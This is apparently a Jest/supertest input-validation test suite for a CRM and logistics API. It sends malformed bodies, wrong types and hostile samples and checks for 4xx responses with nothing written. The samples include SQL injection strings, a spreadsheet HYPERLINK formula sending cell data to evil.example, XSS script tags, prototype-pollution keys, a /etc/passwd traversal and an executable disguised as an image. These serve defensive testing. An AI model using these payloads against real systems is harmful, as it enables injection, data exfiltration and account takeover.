import { existsSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { Test } from 'supertest';
import { createTestApp, DEMO_PASSWORD, TestApp } from '../helpers/app.js';
import { appTables, diffFingerprints, fingerprint, problemViolations } from './support.js';

/**
 * R2 — bad input, generated from the OpenAPI document: every POST / PATCH /
 * PUT (JSON or multipart) route of GET /api/docs-json gets one request per
 * invalid class — malformed JSON, wrong content type, a non-object body,
 * an empty body, an unknown field, each required field missing, each field
 * with a wrong type, each text field huge, each money/quantity field
 * negative, each date impossible, a NUL byte, prototype keys, an unknown or
 * hostile path id; multipart routes: no file, JSON instead of multipart, an
 * .exe named .png, text claiming to be an image, a file over the bucket
 * limit, a missing or unknown form field. Every answer is a 4xx
 * application/problem+json without stack, SQL or constraint names (400 only
 * for malformed JSON, 422 for field errors), never a 5xx, and nothing is
 * written: every table, the audit log, the job queue and the file store are
 * unchanged. Each route runs its base body at the end (2xx) to prove the
 * mutations were the only thing wrong. Hostile-looking but valid text is
 * stored and returned verbatim.
 */
let t: TestApp;
let auth: { authorization: string };
let tables: string[];

type Json = Record<string, unknown>;
interface Schema {
  type?: string;
  format?: string;
  enum?: unknown[];
  properties?: Record<string, Schema>;
  required?: string[];
  $ref?: string;
  allOf?: Schema[];
  oneOf?: Schema[];
  items?: Schema;
}
interface Route {
  method: 'post' | 'patch' | 'put';
  path: string;
  kind: 'json' | 'multipart' | 'none';
  schema?: Schema;
}
let components: Record<string, Schema>;
let routes: Route[];

// Files: real magic bytes (types are judged by content).
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00', 'latin1'), Buffer.alloc(200, 0), Buffer.from('PE\x00\x00', 'latin1')]);

/** Per route: a valid request (base) that the invalid classes mutate. */
interface Base {
  params: Record<string, string>;
  body?: Json;
  fields?: Record<string, string>;
  file?: { buf: Buffer; name: string };
  /** Bucket limit of the route's file (bytes), for the oversize class. */
  limit?: number;
  /** Running the base would spend the fixture (e.g. change the admin password): skip it. */
  skipBase?: boolean;
  /** Body-less route. */
  noBody?: boolean;
  /** Base statuses other than 2xx that still mean "valid" (e.g. logout of an unknown token). */
}
const ids: Record<string, string> = {};
const yesterday = new Date(Date.now() + 7 * 3600_000 - 86400_000).toISOString().slice(0, 10);

function bases(): Record<string, Base> {
  const csv = Buffer.from('company_name,npwp,email\nPT R2 Sejahtera,,r2@example.co.id\n');
  return {
    'POST /api/auth/login': { params: {}, body: { email: 'director@demo.local', password: DEMO_PASSWORD } },
    'POST /api/auth/refresh': { params: {}, body: { refresh_token: ids.refresh }, skipBase: true },
    'POST /api/auth/logout': { params: {}, body: { refresh_token: ids.refresh2 } },
    'PATCH /api/me': { params: {}, body: { full_name: 'Andi Administrator', locale: 'id' } },
    'POST /api/me/password': { params: {}, body: { current_password: DEMO_PASSWORD, new_password: 'Another#Pass2026' }, skipBase: true },
    'POST /api/files': { params: {}, fields: { bucket: 'ticket-attachments' }, file: { buf: PDF, name: 'r2.pdf' }, limit: 20 * 1024 * 1024 },
    'POST /api/users': { params: {}, body: { email: 'r2.user@demo.local', full_name: 'R2 User', role: 'salesperson', dept_code: 'SAL', manager_user_id: ids.salesManager, password: 'Welcome#2026x', locale: 'id' } },
    'PATCH /api/users/{user_id}': { params: { user_id: ids.sales2 }, body: { full_name: 'Agus Pratama', role: 'salesperson', dept_code: 'SAL', manager_user_id: ids.salesManager, is_active: true } },
    'POST /api/users/{user_id}/password': { params: { user_id: ids.sales3 }, body: { password: 'Reset#Password2026' } },
    'POST /api/api-tokens': { params: {}, body: { name: 'R2 token', expires_in_days: 30 } },
    'POST /api/leads': {
      params: {},
      body: { company_name: 'PT R2 Valid Lead', contact_name: 'Budi', email: 'budi@r2valid.co.id', phone: '081234567890', npwp: '01.234.567.8-901.000', source_channel: 'website', notes: 'base',
        rfq: { origin: 'Jakarta', destination: 'Surabaya', service_type: 'land', commodity: 'Kopi', weight_kg: 100.5, volume_cbm: 1.25, ready_date: '2030-01-15', priority: 'normal', notes: 'x' } },
    },
    'PATCH /api/leads/{lead_id}': { params: { lead_id: ids.newLead }, body: { contact_name: 'Budi Santoso', email: 'budi@r2.co.id', phone: '081234567891', notes: 'checked', source_channel: 'referral' } },
    'POST /api/leads/{lead_id}/assign': { params: { lead_id: ids.qualifiedLead }, body: { sales_owner_user_id: ids.sales1 } },
    'PATCH /api/prospects/{prospect_id}': { params: { prospect_id: ids.openProspect }, body: { stage: 'LOST', lost_reason: 'Harga kompetitor' } },
    'POST /api/activities': { params: {}, body: { activity_type: 'call', prospect_id: ids.otherProspect, occurred_at: new Date(Date.now() - 3600_000).toISOString(), notes: 'Telepon' } },
    'POST /api/marketing/events': { params: {}, body: { event_type: 'event', channel: 'event', occurred_at: yesterday, title: 'R2 expo', leads_generated: 3, notes: 'x' } },
    'POST /api/marketing/spend': { params: {}, body: { channel: 'website', spend_date: yesterday, amount: '1500000.00', notes: 'x' } },
    'POST /api/kpi/targets': { params: {}, body: { metric_key: 'SAL_REFERRALS', assignee_user_id: ids.sales1, period_start: '2032-01-01', period_end: '2032-01-31', target_value: '10', notes: 'x' } },
    'PATCH /api/kpi/targets/{target_id}': { params: { target_id: ids.target }, body: { target_value: '12', notes: 'x' } },
    'POST /api/kpi/entries': { params: {}, body: { metric_key: 'SAL_REFERRALS', entry_date: yesterday, value: '2', notes: 'x', assignee_user_id: ids.sales1 } },
    'POST /api/kpi/evidence': { params: {}, fields: { kpi_entry_id: ids.kpiEntry }, file: { buf: PDF, name: 'bukti.pdf' }, limit: 10 * 1024 * 1024 },
    'POST /api/invoices': { params: {}, body: { invoice_number: 'R2/INV/0001', customer_id: ids.customer, invoice_date: '2026-01-05', due_date: '2026-02-04', amount: '2500000.00', currency: 'IDR', notes: 'x' } },
    'POST /api/payments': { params: {}, body: { invoice_id: ids.openInvoice, payment_date: yesterday, amount: '1.00', method: 'transfer', reference: 'R2-PAY-1', notes: 'x' } },
    'POST /api/dso/collection-tickets': { params: {}, body: { customer_id: ids.customer } },
    'POST /api/tickets': {
      params: {},
      body: { ticket_type: 'request_pickup', dept_target: 'DOM', subject: 'Pickup R2', description: 'x', priority: 'high', related_customer_id: ids.customer,
        pickup_address: 'Jl. Raya 1', pickup_date: '2030-01-10', cargo_description: '2 palet', shipment_reference: 'SHP-R2' },
    },
    'PATCH /api/tickets/{ticket_id}': { params: { ticket_id: ids.ticket }, body: { status: 'IN_PROGRESS', priority: 'high', assigned_to_user_id: ids.opsDom, reason: 'x' } },
    'POST /api/tickets/{ticket_id}/messages': { params: { ticket_id: ids.ticket }, body: { body: 'Balasan', is_internal: false, visible_to_ops: false } },
    'POST /api/tickets/{ticket_id}/attachments': { params: { ticket_id: ids.ticket }, fields: { is_internal: 'false' }, file: { buf: PNG, name: 'foto.png' }, limit: 20 * 1024 * 1024 },
    'PATCH /api/ops/rfqs/{ticket_id}': { params: { ticket_id: ids.rfq }, body: { status: 'IN_PROGRESS', priority: 'high', reason: 'x' } },
    'POST /api/ops/rfqs/{ticket_id}/messages': { params: { ticket_id: ids.rfq }, body: { body: 'Tarif segera', is_internal: false } },
    'POST /api/ops/rfqs/{ticket_id}/attachments': { params: { ticket_id: ids.rfq }, fields: { is_internal: 'false' }, file: { buf: PDF, name: 'tarif.pdf' }, limit: 20 * 1024 * 1024 },
    'POST /api/imports': { params: {}, fields: { module: 'customers' }, file: { buf: csv, name: 'customers.csv' }, limit: 100 * 1024 * 1024 },
    'POST /api/imports/{import_id}/process': { params: { import_id: ids.import }, noBody: true },
    'POST /api/kpi/import': { params: {}, fields: {}, file: { buf: Buffer.from(`metric_key,assignee_email,entry_date,value\nSAL_REFERRALS,sales1@demo.local,${yesterday},1\n`), name: 'kpi.csv' }, limit: 100 * 1024 * 1024 },
    'PATCH /api/reference/departments/{dept_code}': { params: { dept_code: 'DOM' }, body: { name: 'Domestik', name_en: 'Domestic', sort_order: 10 } },
    'POST /api/reference/holidays': { params: {}, body: { holiday_date: '2031-12-24', name: 'R2 Libur', name_en: 'R2 holiday' } },
    'PATCH /api/reference/holidays/{date}': { params: { date: ids.holiday }, body: { name: 'Libur', name_en: 'Holiday' } },
    'PATCH /api/reference/sla-policies/{ticket_type}/{priority}': { params: { ticket_type: 'complaint', priority: 'high' }, body: { first_response_minutes: 60, resolution_minutes: 600 } },
    'PATCH /api/reference/stale-thresholds/{entity}': { params: { entity: 'ticket' }, body: { threshold_hours: 48, description: 'Open ticket idle for two days' } },
    'POST /api/dso/import': { params: {}, fields: { module: 'invoices' }, file: { buf: Buffer.from(`invoice_number,customer_id,invoice_date,due_date,amount\nR2-IMP-1,${ids.customer},2026-01-05,2026-02-04,1000\n`), name: 'inv.csv' }, limit: 100 * 1024 * 1024 },
  };
}

// ---------------------------------------------------------- the classes ---
interface Case {
  name: string;
  /** Builds the request from a fresh supertest agent call. */
  send: (path: string) => Test;
  /** Allowed statuses (all 4xx). */
  expect: number[];
  /** A 2xx is acceptable too (a no-op), provided nothing is written. */
  noopOk?: boolean;
}

function resolve(s: Schema | undefined): Schema {
  let x = s ?? {};
  for (let i = 0; i < 10; i++) {
    if (x.$ref) x = components[x.$ref.split('/').pop()!];
    else if (x.allOf?.length === 1) x = x.allOf[0];
    else break;
  }
  return x;
}

type Kind = 'string' | 'number' | 'boolean' | 'enum' | 'date' | 'datetime' | 'uuid' | 'money' | 'object' | 'array';
interface Field {
  path: string[];
  kind: Kind;
  required: boolean;
}
function kindOf(s: Schema, name: string): Kind {
  if (s.enum) return 'enum';
  if (s.oneOf) return 'money';
  if (s.type === 'object' || s.properties) return 'object';
  if (s.type === 'array') return 'array';
  if (s.type === 'number' || s.type === 'integer') return 'number';
  if (s.type === 'boolean') return 'boolean';
  if (s.format === 'date') return 'date';
  if (s.format === 'date-time') return 'datetime';
  if (s.format === 'uuid') return 'uuid';
  if (/(^|_)(amount|value)$/.test(name)) return 'money';
  return 'string';
}
function fieldsOf(schema: Schema, prefix: string[] = []): Field[] {
  const s = resolve(schema);
  return Object.entries(s.properties ?? {}).flatMap(([name, raw]) => {
    const r = resolve(raw);
    const f: Field = { path: [...prefix, name], kind: kindOf(r, name), required: (s.required ?? []).includes(name) };
    return f.kind === 'object' ? [f, ...fieldsOf(r, f.path)] : [f];
  });
}
function withField(body: Json, path: string[], value: unknown | typeof REMOVE): Json {
  const copy = structuredClone(body) as Json;
  let o = copy as Record<string, unknown>;
  for (const p of path.slice(0, -1)) {
    if (typeof o[p] !== 'object' || o[p] === null) o[p] = {};
    o = o[p] as Record<string, unknown>;
  }
  if (value === REMOVE) delete o[path[path.length - 1]];
  else o[path[path.length - 1]] = value;
  return copy;
}
const REMOVE = Symbol('remove');
const WRONG_TYPE: Record<Kind, unknown> = {
  string: 12345, number: 'abc', boolean: 'maybe', enum: 'NOT_AN_OPTION', date: '2026-02-30', datetime: '2026-02-30T25:61:00+07:00',
  uuid: 'not-a-uuid', money: '12abc', object: 'not an object', array: 'not an array',
};
const NEGATIVE_MUST_FAIL = /^(amount|value|target_value|weight_kg|volume_cbm|leads_generated|expires_in_days|accuracy_m)$/;
const HUGE = 'x'.repeat(100_000);

function jsonCases(route: Route, base: Base): Case[] {
  const url = (p: string) => p;
  const post = (p: string) => t.http()[route.method](url(p)).set(auth);
  const cases: Case[] = [
    { name: 'malformed JSON', send: (p) => post(p).set('content-type', 'application/json').send('{"a": 1,'), expect: [400] },
    { name: 'truncated JSON with a huge number', send: (p) => post(p).set('content-type', 'application/json').send('{"a": 1e999999'), expect: [400] },
  ];
  if (base.noBody) return cases;
  cases.push(
    { name: 'form-encoded instead of JSON', send: (p) => post(p).set('content-type', 'application/x-www-form-urlencoded').send('a=1&b=2'), expect: [415, 422] },
    { name: 'text/plain instead of JSON', send: (p) => post(p).set('content-type', 'text/plain').send(JSON.stringify(base.body)), expect: [415, 422] },
    { name: 'XML instead of JSON', send: (p) => post(p).set('content-type', 'application/xml').send('<a>1</a>'), expect: [415, 422] },
    { name: 'a JSON array', send: (p) => post(p).send([base.body]), expect: [400, 422] },
    { name: 'a JSON string', send: (p) => post(p).set('content-type', 'application/json').send('"hello"'), expect: [400, 422] },
    { name: 'JSON null', send: (p) => post(p).set('content-type', 'application/json').send('null'), expect: [400, 422] },
    { name: 'an unknown field', send: (p) => post(p).send({ ...base.body, zz_not_a_field: 1 }), expect: [422] },
    { name: '__proto__ / constructor keys', send: (p) => post(p).set('content-type', 'application/json').send(JSON.stringify(base.body).replace(/^\{/, '{"__proto__":{"role":"super_admin"},"constructor":{"x":1},')), expect: [422] },
  );
  const fields = fieldsOf(route.schema!);
  if (fields.some((f) => f.required && f.path.length === 1)) cases.push({ name: 'an empty object', send: (p) => post(p).send({}), expect: [422] });
  // An all-optional PATCH with nothing in it may answer 2xx — but it must not write anything (checked by the fingerprint).
  else cases.push({ name: 'an empty object (no-op)', send: (p) => post(p).send({}), expect: [422], noopOk: true });
  for (const f of fields) {
    const name = f.path.join('.');
    if (f.required) cases.push({ name: `${name} missing`, send: (p) => post(p).send(withField(base.body!, f.path, REMOVE)), expect: [422] });
    cases.push({ name: `${name} of a wrong type`, send: (p) => post(p).send(withField(base.body!, f.path, WRONG_TYPE[f.kind])), expect: [422] });
    if (f.kind === 'string' || f.kind === 'money') cases.push({ name: `${name} huge (100k chars)`, send: (p) => post(p).send(withField(base.body!, f.path, HUGE)), expect: [413, 422] });
    if (f.kind === 'string' && f.required) cases.push({ name: `${name} with a NUL byte`, send: (p) => post(p).send(withField(base.body!, f.path, 'ab\u0000cd')), expect: [401, 404, 409, 422] });
    if (NEGATIVE_MUST_FAIL.test(f.path[f.path.length - 1])) {
      cases.push({ name: `${name} negative`, send: (p) => post(p).send(withField(base.body!, f.path, f.kind === 'number' ? -1 : '-1.00')), expect: [422] });
      cases.push({ name: `${name} not finite`, send: (p) => post(p).set('content-type', 'application/json').send(JSON.stringify(withField(base.body!, f.path, 0)).replace(`"${f.path[f.path.length - 1]}":0`, `"${f.path[f.path.length - 1]}":1e400`)), expect: [400, 422] });
    }
    if (f.kind === 'date' || f.kind === 'datetime') {
      cases.push({ name: `${name} as a word`, send: (p) => post(p).send(withField(base.body!, f.path, 'yesterday')), expect: [422] });
      cases.push({ name: `${name} in year 99999`, send: (p) => post(p).send(withField(base.body!, f.path, f.kind === 'date' ? '99999-01-01' : '99999-01-01T00:00:00Z')), expect: [422] });
    }
  }
  return cases;
}

function multipartCases(route: Route, base: Base): Case[] {
  const post = (p: string) => t.http()[route.method](p).set(auth);
  const withFields = (req: Test, fields: Record<string, string>) => {
    for (const [k, v] of Object.entries(fields)) req = req.field(k, v);
    return req;
  };
  const schema = resolve(route.schema);
  const required = (schema.required ?? []).filter((f) => f !== 'file');
  const cases: Case[] = [
    { name: 'no file', send: (p) => withFields(post(p), base.fields ?? {}), expect: [422] },
    { name: 'JSON instead of multipart', send: (p) => post(p).send({ ...base.fields, file: 'aGVsbG8=' }), expect: [415, 422] },
    { name: 'the file under another field name', send: (p) => withFields(post(p), base.fields ?? {}).attach('upload', base.file!.buf, base.file!.name), expect: [400, 422] },
    { name: 'two files', send: (p) => withFields(post(p), base.fields ?? {}).attach('file', base.file!.buf, base.file!.name).attach('file', base.file!.buf, base.file!.name), expect: [400, 413, 422] },
    { name: 'an .exe renamed .png (image/png claimed)', send: (p) => withFields(post(p), base.fields ?? {}).attach('file', EXE, { filename: 'photo.png', contentType: 'image/png' }), expect: [415, 422] },
    { name: 'an .exe renamed .csv', send: (p) => withFields(post(p), base.fields ?? {}).attach('file', EXE, { filename: 'data.csv', contentType: 'text/csv' }), expect: [415, 422] },
    { name: 'an empty file', send: (p) => withFields(post(p), base.fields ?? {}).attach('file', Buffer.alloc(0), base.file!.name), expect: [415, 422] },
    { name: 'an unknown form field', send: (p) => withFields(post(p), { ...base.fields, zz_not_a_field: '1' }).attach('file', base.file!.buf, base.file!.name), expect: [422] },
  ];
  if (base.limit && base.limit <= 20 * 1024 * 1024) {
    const big = Buffer.concat([base.file!.buf.subarray(0, 16), Buffer.alloc(base.limit + 1 - 16, 0x20)]);
    cases.push({ name: 'one byte over the bucket limit', send: (p) => withFields(post(p), base.fields ?? {}).attach('file', big, base.file!.name), expect: [413] });
  }
  for (const f of required) {
    const rest = { ...base.fields };
    delete rest[f];
    cases.push({ name: `${f} missing`, send: (p) => withFields(post(p), rest).attach('file', base.file!.buf, base.file!.name), expect: [422] });
    cases.push({ name: `${f} not a valid value`, send: (p) => withFields(post(p), { ...base.fields, [f]: '../../etc/passwd' }).attach('file', base.file!.buf, base.file!.name), expect: [404, 422] });
  }
  for (const [f, s] of Object.entries(schema.properties ?? {})) {
    if (resolve(s).type === 'boolean') {
      cases.push({ name: `${f} not a boolean`, send: (p) => withFields(post(p), { ...base.fields, [f]: 'maybe' }).attach('file', base.file!.buf, base.file!.name), expect: [422] });
    }
  }
  return cases;
}

function pathCases(route: Route, base: Base): Case[] {
  const names = Object.keys(base.params);
  if (!names.length) return [];
  const send = (p: string) => {
    const req = t.http()[route.method](p).set(auth);
    if (base.file) {
      let r = req;
      for (const [k, v] of Object.entries(base.fields ?? {})) r = r.field(k, v);
      return r.attach('file', base.file.buf, base.file.name);
    }
    return base.body ? req.send(base.body) : req;
  };
  return names.flatMap((n) => [
    { name: `unknown ${n}`, send: (p: string) => send(p.replace(encodeURIComponent(base.params[n]), n.endsWith('user_id') || n.endsWith('target_id') ? '00000000-0000-0000-0000-000000000000' : 'XX-2026-999999')), expect: [404] },
    { name: `hostile ${n}`, send: (p: string) => send(p.replace(encodeURIComponent(base.params[n]), encodeURIComponent(`' OR '1'='1`))), expect: [404, 422] },
  ]);
}

function pathOf(route: Route, base: Base): string {
  return Object.entries(base.params).reduce((p, [k, v]) => p.replace(`{${k}}`, encodeURIComponent(v)), route.path);
}

function filesIn(dir: string): number {
  if (!existsSync(dir)) return 0;
  return readdirSync(dir).reduce((n, f) => {
    const p = join(dir, f);
    return n + (statSync(p).isDirectory() ? filesIn(p) : 1);
  }, 0);
}

async function jobCount(): Promise<number> {
  return Number((await t.db.admin.query('SELECT count(*) AS n FROM graphile_worker._private_jobs')).rows[0].n);
}

beforeAll(async () => {
  t = await createTestApp();
  const admin = await t.login('admin@demo.local');
  auth = { authorization: `Bearer ${admin.access_token}` };
  const doc = (await t.http().get('/api/docs-json')).body as { paths: Record<string, Record<string, { requestBody?: { content: Record<string, { schema: Schema }> } }>>; components: { schemas: Record<string, Schema> } };
  components = doc.components.schemas;
  routes = Object.entries(doc.paths).flatMap(([path, ops]) =>
    (['post', 'patch', 'put'] as const).filter((m) => ops[m]).map((method) => {
      const content = ops[method].requestBody?.content ?? {};
      const kind: Route['kind'] = content['multipart/form-data'] ? 'multipart' : content['application/json'] ? 'json' : 'none';
      return { method, path, kind, schema: (content['multipart/form-data'] ?? content['application/json'])?.schema };
    }));
  const q = async (sql: string) => String((await t.db.admin.query(sql)).rows[0].v);
  const user = (email: string) => q(`SELECT user_id::text AS v FROM app.profiles WHERE email = '${email}'`);
  Object.assign(ids, {
    sales1: await user('sales1@demo.local'), sales2: await user('sales2@demo.local'), sales3: await user('sales3@demo.local'),
    salesManager: await user('sales.manager@demo.local'), opsDom: await user('ops.dom@demo.local'),
    newLead: await q(`SELECT min(lead_id) AS v FROM app.leads WHERE status = 'NEW'`),
    qualifiedLead: await q(`SELECT min(lead_id) AS v FROM app.leads WHERE status = 'QUALIFIED'`),
    openProspect: await q(`SELECT min(prospect_id) AS v FROM app.prospects WHERE stage NOT IN ('WON', 'LOST') AND owner_user_id IS NOT NULL`),
    otherProspect: await q(`SELECT max(prospect_id) AS v FROM app.prospects WHERE stage NOT IN ('WON', 'LOST') AND owner_user_id IS NOT NULL`),
    target: await q(`SELECT min(target_id::text) AS v FROM app.kpi_targets`),
    customer: await q(`SELECT min(customer_id) AS v FROM app.customers`),
    openInvoice: await q(`SELECT min(invoice_id) AS v FROM app.v_invoice_outstanding WHERE outstanding_amount >= 10`),
    holiday: await q(`SELECT min(holiday_date)::text AS v FROM app.holidays`),
    rfq: await q(`SELECT min(ticket_id) AS v FROM app.tickets WHERE need_customer_masking AND inquiry_status = 'OPEN'`),
  });
  ids.refresh = (await t.login('finance@demo.local')).refresh_token;
  ids.refresh2 = (await t.login('finance@demo.local')).refresh_token;
  const ticket = await t.http().post('/api/tickets').set(auth).send({ ticket_type: 'general_request', dept_target: 'DOM', subject: 'R2 base', description: 'R2 base ticket' });
  expect(ticket.status).toBe(201);
  ids.ticket = ticket.body.ticket_id;
  const entry = await t.http().post('/api/kpi/entries').set(auth).send({ metric_key: 'SAL_REFERRALS', entry_date: yesterday, value: '1', assignee_user_id: ids.sales1 });
  expect(entry.status).toBe(201);
  ids.kpiEntry = entry.body.entry_id;
  const imp = await t.http().post('/api/imports').set(auth).field('module', 'customers').attach('file', Buffer.from('company_name\nPT R2 Import\n'), 'c.csv');
  expect(imp.status).toBe(201);
  ids.import = imp.body.import_id;
  tables = (await appTables(t.db)).filter((x) => x !== 'auth.login_attempts');
}, 60_000);
afterAll(async () => {
  await t?.close();
});

describe('routes under test', () => {
  it('every POST/PATCH/PUT route of the OpenAPI document has a base request here', () => {
    const all = routes.map((r) => `${r.method.toUpperCase()} ${r.path}`);
    expect(all.length).toBeGreaterThan(30);
    expect(all.filter((k) => !(k in bases()))).toEqual([]);
  });
});

describe('invalid input → 4xx problem+json, nothing written', () => {
  const keys = Object.keys(bases());
  it.each(keys)('%s', async (key) => {
    const route = routes.find((r) => `${r.method.toUpperCase()} ${r.path}` === key);
    if (!route) return; // the route is gone from the API (the coverage test above lists new ones)
    const base = bases()[key];
    const cases = [...(route.kind === 'multipart' ? multipartCases(route, base) : jsonCases(route, base)), ...pathCases(route, base)];
    const path = pathOf(route, base);
    const storage = join(t.config.dataDir, 'storage');
    const tmp = join(t.config.dataDir, 'tmp', 'uploads');
    const before = { rows: await fingerprint(t.db, tables), files: filesIn(storage), jobs: await jobCount() };
    const bad: string[] = [];
    for (const c of cases) {
      const res = await c.send(path);
      if (c.noopOk && res.status >= 200 && res.status < 300) continue;
      const v = problemViolations({ status: res.status, headers: res.headers, body: res.body, text: res.text }, c.expect);
      if (v.length) bad.push(`${c.name}: ${v.join('; ')}`);
    }
    expect(bad).toEqual([]);
    const after = { rows: await fingerprint(t.db, tables), files: filesIn(storage), jobs: await jobCount() };
    expect({ changed: diffFingerprints(before.rows, after.rows), files: after.files - before.files, jobs: after.jobs - before.jobs }).toEqual({ changed: [], files: 0, jobs: 0 });
    // Uploads that were refused leave no temporary file behind.
    expect(filesIn(tmp)).toBe(0);
    expect(cases.length).toBeGreaterThan(1);
  });
});

describe('routes without a base request (added since) still get the generic classes', () => {
  it('malformed JSON, a foreign content type, an unknown field, all fields of a wrong type, no file → 4xx problem, nothing written', async () => {
    const extra = routes.filter((r) => !(`${r.method.toUpperCase()} ${r.path}` in bases()));
    const before = await fingerprint(t.db, tables);
    const bad: string[] = [];
    for (const r of extra) {
      const path = r.path.replace(/\{[^}]+\}/g, 'XX-0');
      const send = () => t.http()[r.method](path).set(auth);
      const wrongTypes = Object.fromEntries(fieldsOf(r.schema ?? {}).filter((f) => f.path.length === 1).map((f) => [f.path[0], WRONG_TYPE[f.kind]]));
      const cases: [string, () => Test][] = r.kind === 'multipart'
        ? [['no file', () => send().field('zz', '1')], ['JSON instead of multipart', () => send().send({ file: 'x' })]]
        : [
            ['malformed JSON', () => send().set('content-type', 'application/json').send('{"a":')],
            ['text/plain', () => send().set('content-type', 'text/plain').send('a')],
            ['unknown field', () => send().send({ zz_not_a_field: 1 })],
            ['wrong types', () => send().send(wrongTypes)],
          ];
      for (const [name, c] of cases) {
        const res = await c();
        const v = problemViolations({ status: res.status, headers: res.headers, body: res.body, text: res.text });
        if (v.length) bad.push(`${r.method.toUpperCase()} ${r.path} ${name}: ${v.join('; ')}`);
      }
    }
    expect(bad).toEqual([]);
    expect(diffFingerprints(before, await fingerprint(t.db, tables))).toEqual([]);
  });
});

describe('the base requests are valid (so each case above had exactly one thing wrong)', () => {
  it.each(Object.keys(bases()))('%s', async (key) => {
    const route = routes.find((r) => `${r.method.toUpperCase()} ${r.path}` === key);
    const base = bases()[key];
    if (!route || base.skipBase) return;
    let req = t.http()[route.method](pathOf(route, base)).set(auth);
    if (base.file) {
      for (const [k, v] of Object.entries(base.fields ?? {})) req = req.field(k, v);
      req = req.attach('file', base.file.buf, base.file.name);
    } else if (base.body) req = req.send(base.body);
    const res = await req;
    expect({ key, outcome: res.status < 300 ? 'ok' : `${res.status} ${res.text}` }).toEqual({ key, outcome: 'ok' });
  });
});

describe('hostile-looking but valid text is data: stored and returned verbatim', () => {
  const HOSTILE = [
    `Robert'); DROP TABLE app.leads;--`,
    `=HYPERLINK("http://evil.example/?q="&A1,"Klik")`,
    `<script>alert('x')</script><img src=x onerror=alert(1)>`,
    `Kopi ☕ Nusantara 🚚📦 👩🏽‍💼 Ltd`,
    `شركة النقل السريع \u202Egpj.exe`,
    `+62 812; @SUM(1+1); -2+3`,
    `\${7*7} {{7*7}} %s %n %x`,
    `O'Brien & "Sons" \\ back\\slash`,
    `PT\u200bSinar\u00a0Jaya Cafe\u0301`,
    `NULL`,
  ];

  it.each(HOSTILE.map((h, i) => [i, h] as const))('#%i through a lead, a ticket and its message', async (i, text) => {
    const lead = await t.http().post('/api/leads').set(auth).send({ company_name: `${text} ${i}`, contact_name: text, notes: text, source_channel: 'other' });
    expect(lead.status).toBe(201);
    const got = await t.http().get(`/api/leads/${lead.body.lead_id}`).set(auth);
    expect(got.body).toMatchObject({ company_name: `${text} ${i}`, contact_name: text, notes: text });
    const stored = await t.db.admin.query('SELECT company_name, contact_name, notes FROM app.leads WHERE lead_id = $1', [lead.body.lead_id]);
    expect(stored.rows[0]).toEqual({ company_name: `${text} ${i}`, contact_name: text, notes: text });
    const ticket = await t.http().post('/api/tickets').set(auth).send({ ticket_type: 'general_request', dept_target: 'FIN', subject: text.slice(0, 200), description: text });
    expect(ticket.status).toBe(201);
    expect(ticket.body).toMatchObject({ subject: text.slice(0, 200), description: text });
    const msg = await t.http().post(`/api/tickets/${ticket.body.ticket_id}/messages`).set(auth).send({ body: text });
    expect(msg.status).toBe(201);
    const thread = await t.http().get(`/api/tickets/${ticket.body.ticket_id}/messages`).set(auth);
    expect(thread.body.items.map((m: { body: string }) => m.body)).toContain(text);
    const ev = await t.http().post('/api/marketing/events').set(auth).send({ event_type: 'other', channel: 'other', occurred_at: yesterday, title: text, notes: text });
    expect(ev.status).toBe(201);
    expect(ev.body).toMatchObject({ title: text, notes: text });
  });
});
